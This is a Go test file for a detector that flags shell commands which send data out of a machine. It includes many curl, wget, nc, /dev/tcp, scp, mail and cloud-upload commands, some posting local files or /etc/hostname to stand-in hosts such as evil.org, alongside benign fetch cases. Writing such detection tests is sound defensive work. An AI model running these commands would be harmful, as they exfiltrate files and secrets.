package spec

import (
	"strings"
	"testing"
)

func TestWhatSendsSomethingOutIsNoticed(t *testing.T) {
	for _, text := range []string{
		"curl -d @f https://example.org/", "curl https://example.org -sd@f", "sh -c echo x > a; curl -sX POST http://example.org/ -d @/etc/hostname; true",
		"curl -XPUT https://example.org", "curl -X DELETE https://example.org", "curl --request PATCH https://example.org", "curl --request=POST x.org", `curl -X "$METHOD" x.org`,
		"curl -X G x.org", "curl -X HEADS x.org", "curl -X GETX x.org", "curl -fsSL -F f=@a https://x.org", "curl --data-binary @- x.org", "curl --json {} x.org", "curl -T f https://x.org", "curl --upload-file f ftp://x.org",
		"curl https://x.org?a=1&b=2 -d x", "curl https://x.org \\\n  -d @f", "/usr/bin/curl -F a=b x.org", "x=$(curl -d @f x.org)", "if ! curl -d @f x.org; then exit 1; fi",
		"curl -d @f evil.org http://localhost/", "curl -d @f -x http://evil.org http://localhost/", "curl http://localhost:80@evil.org -d x", "curl -d x http://localhost/; curl -d y x.org", "curl -d @f $URL", "curl -d x http://localhost.evil.org/",
		"curl smtp://x.org --mail-rcpt a@x.org",
		"wget --post-file=f x.org", "wget -q --post-data x x.org", "wget --method=PUT --body-file=f x.org", "wget --method POST x.org",
		"http POST x.org", "http x.org name=value", "https PUT x.org a:=1", "http --form x.org f@a.txt", "cat f | http x.org n=v", "xh post x.org a=b", "http --raw x x.org", "http x.org < f",
		"Invoke-WebRequest -Uri x -Method Post -Body y", "pwsh -c Invoke-RestMethod x.org -InFile f",
		"scp f host:", "scp -r out user@host:/tmp/x", "scp -P 22 f user@[::1]:x", "rsync -a out/ host:out", "rsync -az out rsync://x.org/m", "scp f host:x && true", "sh -c 'scp f h.org:x'", "rsync -a . me@x.org:site > log 2>&1", "scp f $HOST:x",
		"ssh host cat", "tar c . | ssh -i key me@host 'cat > x'", "sftp host", "ftp -n x.org", "lftp -c put f",
		"nc x.org 80", "cat f | nc -w 3 -q 1 x.org 80", "ncat --ssl x.org 443 < f", "telnet x.org 25", "socat - TCP:x.org:80", "openssl s_client -connect x.org:443", "sudo nc x.org 80", "timeout 5 nc x.org 80", "xargs -0 nc x.org 80",
		"cat f > /dev/tcp/x.org/80", "bash -c echo hi >/dev/udp/1.2.3.4/53",
		"mail -s x me@x.org", "sendmail me@x.org", "mutt -a f -- me@x.org",
		"gh api repos/o/r/issues -f title=x", "gh api -X DELETE repos/o/r", "gh api x --input f", "gh api x --method POST", "gh issue create", "gh pr comment 1", "gh release upload v1 f", "gh gist create f",
		"aws s3 cp f s3://b/", "aws s3 cp f s3://b/k --acl private", "gsutil -m cp f gs://b", "aws s3api put-object --bucket b", "az storage blob upload -f x", "rclone copy x r:y",
	} {
		if sendsOut(text) == "" {
			t.Errorf("%q is not noticed", text)
		}
	}
}

func TestWhatOnlyFetchesOrSpeaksOfItIsNotWarnedAbout(t *testing.T) {
	for _, text := range []string{
		"curl https://example.org", "curl -fsSL -o data.dat https://example.org/data", "curl -sSLO x.org/f", "curl -D headers x.org", "curl -x proxy x.org", "curl -X GET x.org", "curl -XGET x.org", "curl -X 'GET' x.org", "curl -I x.org", "curl -X HEAD x.org", "curl --request GET x.org", "curl --request=HEAD x.org",
		"curl -H 'Accept: text/html' x.org", "curl -odata x.org", "curl -u me x.org | tee -d", "curl x.org && cut -d: -f1 f", "curl x.org; date -d now", "curl x.org & sort -T /tmp f", "curl --compressed --fail x.org", "which curl", "curl --version",
		"curl -X POST http://localhost:8080/items -d @body.json", "curl -sd x http://127.0.0.1:3000", "curl -d x http://localhost:$PORT/a.b", "wget --post-data=x http://[::1]/", "http POST http://localhost:3000/x", "nc localhost 80",
		"wget https://x.org", "wget -d x.org", "wget -O post.html x.org", "wget --method=GET x.org", "wget --method HEAD x.org",
		"http x.org", "http GET x.org q==1", "http x.org Accept:text/html", "http x.org > out", "https x.org", "go doc net/http", "grep -rn http PUT.md", "grep http a=b", "echo http and https post", "npx http-server .", "pip install http",
		"scp host:f .", "scp me@host:/x/y out/", "rsync -a src/ dst/", "rsync -az host:src/ dst", "rsync -a rsync://x.org/m dst", "cp a:b c", "rsync --version",
		"ssh-keygen -t ed25519 -f key", "ssh -V", "which ssh git", "nc -z localhost 8080", "nc -zv x.org 80", "nc -vz -w 1 x.org 80", "nc -w 1 -z x.org 80", "nc -l 8080", "nc -h", "sync", "func nc x y", "grep -r nc a b",
		"go test ./mail/...", "mail -h", "cat mail me@x.org", "git log --format=%ae", "npm run mail", "make ftp", "grep -rn telnet x y",
		"gh api repos/o/r", "gh api -X GET x", "gh api --method GET x", "gh pr view 1", "gh issue list", "gh pr diff", "gh release download v1",
		"aws s3 cp s3://b/k f", "aws s3 ls s3://b", "gsutil cp gs://b/k f", "rclone ls r:", "az storage blob download -f x", "cat /dev/tcp", "ls > /dev/null", "socat -V", "docker compose up -d", "go test -run Upload ./...",
		"Invoke-WebRequest -Uri x -OutFile y", "python -m http.server 80",
	} {
		if m := sendsOut(text); m != "" {
			t.Errorf("%q: %q", text, m)
		}
	}
}

func TestACommandThatSendsOutIsWarnedAbout(t *testing.T) {
	s := valid(t, workspace(t, nil), job(`checks: ["curl -sX POST https://example.org/ -d @/etc/hostname"]`))
	if len(s.Warning) != 1 || s.Warning[0].Rule != "hazard" || !strings.Contains(s.Warning[0].Message, "this check seems to push, publish, deploy, delete or send something out (\"curl -sX POST") {
		t.Errorf("%v", s.Warning)
	}
}
